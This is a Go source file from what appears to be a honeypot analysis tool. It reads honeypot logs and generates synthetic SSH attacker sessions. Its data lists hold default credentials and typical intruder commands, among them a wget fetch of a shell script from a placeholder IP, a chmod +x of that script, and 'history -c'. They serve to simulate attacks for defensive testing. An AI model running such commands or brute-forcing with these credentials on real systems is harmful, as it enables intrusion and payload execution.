package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"math/rand"
	"strings"
	"time"

	"github.com/google/uuid"

	"github.com/V4T54L/honeywatch/internal/adapter/export"
	"github.com/V4T54L/honeywatch/internal/domain"
)

// loadFile reads raw events from an export envelope (.json, .json.gz,
// .json.zst) or from a honeypot log with one JSON event per line.
func loadFile(path string) ([]domain.RawEvent, error) {
	base := strings.TrimSuffix(strings.TrimSuffix(path, ".gz"), ".zst")
	if strings.HasSuffix(base, ".json") {
		env, err := export.ReadFile(path)
		if err != nil {
			return nil, err
		}
		events := make([]domain.RawEvent, 0, len(env.Events))
		for _, ev := range env.Events {
			events = append(events, ev.Event)
		}
		return events, nil
	}

	rc, err := export.Open(path)
	if err != nil {
		return nil, err
	}
	defer rc.Close()

	var events []domain.RawEvent
	scanner := bufio.NewScanner(rc)
	scanner.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	line := 0
	for scanner.Scan() {
		line++
		b := scanner.Bytes()
		if len(strings.TrimSpace(string(b))) == 0 {
			continue
		}
		var raw domain.RawEvent
		if err := json.Unmarshal(b, &raw); err != nil {
			return nil, fmt.Errorf("%s:%d: %w", path, line, err)
		}
		events = append(events, raw)
	}
	return events, scanner.Err()
}

var (
	usernames = []string{"root", "admin", "ubuntu", "pi", "oracle", "test"}
	passwords = []string{"123456", "password", "admin", "raspberry", "toor", "qwerty"}
	commands  = []string{"uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x.sh", "cd /tmp; chmod +x x.sh", "history -c"}
	ports     = []int{22, 23, 2222, 2323}
)

// session generates the events of one synthetic attacker session.
func session(rng *rand.Rand, start time.Time) []domain.RawEvent {
	id := uuid.NewString()[:12]
	src := fmt.Sprintf("203.0.113.%d", rng.Intn(254)+1)
	port := ports[rng.Intn(len(ports))]
	t := start

	next := func(kind string) domain.RawEvent {
		t = t.Add(time.Duration(rng.Intn(3000)+100) * time.Millisecond)
		p := port
		return domain.RawEvent{Kind: kind, SessionID: id, Timestamp: t, SourceIP: src, DestPort: &p}
	}

	events := []domain.RawEvent{next(domain.KindSessionConnect)}
	version := next(domain.KindClientVersion)
	version.Extra = map[string]any{"version": "SSH-2.0-Go"}
	events = append(events, version)

	attempts := rng.Intn(5) + 1
	for i := 0; i < attempts; i++ {
		ev := next(domain.KindLoginFailed)
		ev.Username = usernames[rng.Intn(len(usernames))]
		ev.Password = passwords[rng.Intn(len(passwords))]
		events = append(events, ev)
	}

	// about a third of sessions get in and run commands
	if rng.Intn(3) == 0 {
		ok := next(domain.KindLoginSuccess)
		ok.Username, ok.Password = "root", "root"
		events = append(events, ok)
		for i := 0; i < rng.Intn(4)+1; i++ {
			cmd := next(domain.KindCommandInput)
			cmd.Input = commands[rng.Intn(len(commands))]
			events = append(events, cmd)
		}
	}

	closed := next(domain.KindSessionClosed)
	d := t.Sub(start).Seconds()
	closed.Duration = &d
	return append(events, closed)
}
